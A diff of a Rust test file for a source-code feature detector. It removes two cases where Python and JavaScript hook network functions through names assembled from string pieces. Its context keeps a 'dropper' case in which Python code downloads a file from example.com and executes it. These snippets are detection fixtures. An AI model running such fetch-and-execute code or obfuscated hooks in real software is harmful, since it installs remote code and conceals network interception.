@@ -72,12 +72,6 @@ fn told(steps: &[Step], feature: Feature, detail: &str) -> bool {
     "network calls",
     true
 )]
-#[case::hook_folded(
-    "import requests\nold = requests.post\ndef seen(*a): return old(*a)\nsetattr(requests, 'po' + 'st', seen)",
-    Feature::X6,
-    "network calls",
-    false
-)]
 #[case::dropper(
     "import requests, subprocess\nopen('/tmp/x', 'wb').write(requests.get('https://example.com/x').content)\nsubprocess.run(['/tmp/x'])",
     Feature::X12,
@@ -106,12 +100,6 @@ fn in_python(#[case] source: &str, #[case] feature: Feature, #[case] detail: &st
 #[case::stand_in("if (!globalThis.fetch) globalThis.fetch = function (u) { return 1 }", Feature::X6, "", false)]
 #[case::hook(
     "const old = globalThis.fetch; globalThis.fetch = (...a) => { seen(a); return old(...a) }",
-    Feature::X6,
-    "network calls",
-    true
-)]
-#[case::hook_computed(
-    "const old = window['fe' + 'tch']; window['fe' + 'tch'] = (...a) => old(...a)",
     Feature::X6,
     "network calls",
     true
